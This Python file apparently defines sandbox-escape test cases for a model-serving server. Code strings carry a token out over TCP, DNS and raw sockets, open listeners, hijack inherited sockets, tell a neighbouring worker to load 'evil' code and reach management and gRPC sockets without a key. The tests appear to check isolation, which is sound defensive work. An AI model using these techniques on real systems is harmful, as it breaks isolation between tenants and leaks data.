"""The network and sockets: carrying data out, letting visitors in, reaching the server by its back doors."""

import re
import socket
from pathlib import Path

import psutil

from attacks.escape.effects import secret_came_back, was_heard
from attacks.escape.model import Escape, Scene
from attacks.escape.props import accomplice, datagram_listener, free_port, knock, secret_file, stream_listener


def _loopback(scene: Scene) -> object:
    return ("127.0.0.1", 0)


def _loopback6(scene: Scene) -> object:
    return ("::1", 0)


def _abstract(scene: Scene) -> object:
    return b"\0" + scene.token.encode()


def _path(scene: Scene) -> object:
    return str(scene.place / "listener")


_TCP = stream_listener(socket.AF_INET, _loopback, "tcp")
_TCP6 = stream_listener(socket.AF_INET6, _loopback6, "tcp")
_UDP = datagram_listener(socket.AF_INET, _loopback, "udp")
_ABSTRACT = stream_listener(socket.AF_UNIX, _abstract, "unix")
_UNIX = stream_listener(socket.AF_UNIX, _path, "unix")
_UNIX_DATAGRAMS = datagram_listener(socket.AF_UNIX, _path, "unix")

OUT = (
    Escape(
        "tcp-out",
        "import",
        "Carry data out over TCP.",
        "socket.create_connection(tuple(world['tcp']), 5).sendall(world['token'].encode())",
        was_heard,
        (_TCP,),
    ),
    Escape(
        "tcp6-out",
        "load",
        "The same over IPv6.",
        """
        with socket.socket(socket.AF_INET6) as connection:
            connection.connect(tuple(world["tcp"]))
            connection.sendall(world["token"].encode())
        """,
        was_heard,
        (_TCP6,),
    ),
    Escape(
        "tcp-fast-open",
        "infer",
        "Connect without a connect: the data goes with the first packet.",
        """
        with socket.socket() as connection:
            connection.sendto(world["token"].encode(), 0x20000000, tuple(world["tcp"]))
        """,
        was_heard,
        (_TCP,),
    ),
    Escape(
        "dns-out",
        "infer",
        "Carry data out as the name in a DNS query.",
        """
        name = b"".join(bytes([len(part)]) + part for part in (world["token"].encode(), b"example", b"com"))
        query = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + name + bytes(1) + struct.pack(">2H", 1, 1)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
            channel.sendto(query, tuple(world["udp"]))
        """,
        was_heard,
        (_UDP,),
    ),
    Escape(
        "raw-packet-out",
        "load",
        "Carry data out in a packet made by hand (a raw socket).",
        """
        port = world["udp"][1]
        data = world["token"].encode()
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as channel:
            channel.sendto(struct.pack(">4H", port, port, 8 + len(data), 0) + data, ("127.0.0.1", 0))
        """,
        was_heard,
        (_UDP,),
        root=True,
    ),
    Escape(
        "abstract-socket",
        "thread",
        "Talk to an accomplice on a unix socket without a path.",
        """
        with socket.socket(socket.AF_UNIX) as connection:
            connection.connect(world["unix"])
            connection.sendall(world["token"].encode())
        """,
        was_heard,
        (_ABSTRACT,),
    ),
    Escape(
        "unix-socket",
        "del",
        "Talk to an accomplice on a unix socket with a path.",
        """
        with socket.socket(socket.AF_UNIX) as connection:
            connection.connect(world["unix"])
            connection.sendall(world["token"].encode())
        """,
        was_heard,
        (_UNIX,),
    ),
    Escape(
        "unix-datagram",
        "infer",
        "Talk to an accomplice without any connection.",
        """
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as channel:
            channel.sendto(world["token"].encode(), world["unix"])
        """,
        was_heard,
        (_UNIX_DATAGRAMS,),
    ),
    Escape(
        "pass-descriptor",
        "infer",
        "Hand an open file of one's own to an accomplice.",
        """
        with socket.socket(socket.AF_UNIX) as connection, tempfile.TemporaryFile() as file:
            connection.connect(world["unix"])
            socket.send_fds(connection, [world["token"].encode()], [file.fileno()])
        """,
        was_heard,
        (_UNIX,),
    ),
    Escape(
        "receive-descriptor",
        "load",
        "Let an accomplice hand over the key, open: no path is opened here.",
        """
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(5)
            connection.connect(world["accomplice"])
            _, files, _, _ = socket.recv_fds(connection, 100, 1)
            return os.read(files[0], 100).decode()
        """,
        secret_came_back,
        (secret_file, accomplice),
    ),
)


def _let_in(scene: Scene) -> str:
    knock(scene, socket.AF_INET, ("127.0.0.1", scene.world["port"]))
    return was_heard(scene)


def _let_in_on_abstract(scene: Scene) -> str:
    knock(scene, socket.AF_UNIX, b"\0" + scene.token.encode())
    return was_heard(scene)


def _let_in_on_own_socket(scene: Scene) -> str:
    for pid in scene.own_pids():
        command = psutil.Process(pid).cmdline()
        knock(scene, socket.AF_UNIX, command[command.index("--sock-name") + 1])
    return was_heard(scene)


def _find_worker_sockets(scene: Scene) -> list[str]:
    return sorted({str(path) for place in scene.server.places for path in Path(place).rglob(".ts.sock.*")})


LISTENING = """
        def serve(listener, word):
            listener.settimeout(10)
            while True:
                try:
                    visitor, _ = listener.accept()
                except TimeoutError:
                    return
                try:
                    visitor.sendall(word)
                except OSError:
                    pass  # one who has gone again

"""

IN = (
    Escape(
        "listen-on-tcp",
        "load",
        "Listen for visitors on a port.",
        LISTENING
        + """
        listener = socket.create_server(("127.0.0.1", world["port"]))
        threading.Thread(target=serve, args=(listener, world["token"].encode()), daemon=True).start()
        """,
        _let_in,
        (free_port,),
    ),
    Escape(
        "listen-on-abstract-socket",
        "infer",
        "Listen for visitors on a unix socket without a path.",
        LISTENING
        + """
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(b"\\0" + world["token"].encode())
        listener.listen()
        threading.Thread(target=serve, args=(listener, world["token"].encode()), daemon=True).start()
        """,
        _let_in_on_abstract,
    ),
    Escape(
        "listen-on-own-socket",
        "infer",
        "Let visitors in by the socket on which the worker once listened for its server.",
        LISTENING
        + """
        def adopt(number):
            if not stat.S_ISSOCK(os.fstat(number).st_mode):
                raise OSError(errno.ENOTSOCK, "no socket")
            one = socket.socket(fileno=number)
            KEPT.append(one)
            if not one.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                raise OSError(errno.EINVAL, "not one that listens")
            return one

        listeners = try_each([lambda number=number: adopt(number) for number in range(3, 256)])
        for one in listeners:
            one.setblocking(True)
            threading.Thread(target=serve, args=(one, world["token"].encode()), daemon=True).start()
        """,
        _let_in_on_own_socket,
    ),
    Escape(
        "bind-outside",
        "thread",
        "Put a socket of one's own where others look for a server's.",
        """
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(world["marker"])
        """,
        lambda scene: f"{scene.marker.name} exists" if scene.marker.exists() else "",
    ),
)


def _answered(scene: Scene) -> str:
    return "the server answered" if "HTTP/1.1" in scene.report else ""


def _registered(scene: Scene) -> str:
    return "a model was registered" if f'"{scene.token}"' in scene.server.list_models() else _answered(scene)


def _spoke_http2(scene: Scene) -> str:
    return "the gRPC server answered" if re.search(r"settings: [0-9a-f]{6}04", scene.report) else ""


def _neighbour_was_reached(scene: Scene) -> str:
    """See a connection that waits at a worker's socket: the server's own one is there already."""
    table = Path("/proc/net/unix").read_text()
    counts = {path: table.count(path) for path in _find_worker_sockets(scene)}
    reached = [path for path, count in counts.items() if count > scene.kept["connections"].get(path, 2)]
    return f"connected to {reached[0]}" if reached else ""


def _keep_connections(scene: Scene) -> None:
    table = Path("/proc/net/unix").read_text()
    scene.kept["connections"] = {path: table.count(path) for path in _find_worker_sockets(scene)}


ASK = """
        def ask(path, text):
            with socket.socket(socket.AF_UNIX) as connection:
                connection.settimeout(5)
                connection.connect(path)
                connection.sendall(text.encode())
                return connection.recv(200).decode(errors="replace")

"""

BACK_DOORS = (
    Escape(
        "neighbour-worker",
        "infer",
        "Connect to the neighbour's worker, as the server does, and tell it which code to load.",
        """
        def load(path):
            connection = socket.socket(socket.AF_UNIX)
            KEPT.append(connection)
            connection.settimeout(2)
            connection.connect(path)
            connection.sendall(b"L" + struct.pack(">i", 4) + b"evil")

        guessed = [f"{world['run']}/tmp/.ts.sock.{9000 + number}" for number in range(24)]
        return try_each([lambda path=path: load(path) for path in world["worker_sockets"] or guessed])
        """,
        _neighbour_was_reached,
        note=(_keep_connections,),
    ),
    Escape(
        "management-socket",
        "infer",
        "Register a model at the server, by the socket on which only its launcher speaks.",
        ASK
        + """
        query = f"url={world['own_model'][0]}&model_name={world['token']}&initial_workers=0"
        return ask(world["run"] + "/management.sock", f"POST /models?{query} HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n")
        """,
        _registered,
    ),
    Escape(
        "inference-socket",
        "load",
        "Ask another model past the gateway, without a key and without a limit.",
        ASK
        + """
        return ask(world["run"] + "/inference.sock", "GET /ping HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n")
        """,
        _answered,
    ),
    Escape(
        "grpc-ports",
        "thread",
        "Speak to the server's gRPC ports, which no setting closes; or, where there are none, to where they would be.",
        """
        def speak(port):
            with socket.create_connection(("127.0.0.1", port), 5) as connection:
                connection.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0]))
                return "settings: " + connection.recv(9).hex()

        return try_each([lambda port=port: speak(port) for port in world["grpc_ports"] or (7070, 7071)])
        """,
        _spoke_http2,
    ),
)


def _tell_no_name(scene: Scene) -> None:
    del scene.world["nothing"]


WHO_LISTENS = (
    Escape(
        "list-sockets",
        "infer",
        "Read who listens on this machine: names of sockets are secrets of those who made them.",
        """
        return try_each([lambda path=path: [line for line in open(path) if "@" in line]
                         for path in ("/proc/net/unix", "/proc/self/net/unix")])
        """,
        secret_came_back,
        (stream_listener(socket.AF_UNIX, lambda scene: b"\0" + scene.secret.encode(), "nothing"), _tell_no_name),
    ),
)

ESCAPES = (*OUT, *IN, *BACK_DOORS, *WHO_LISTENS)
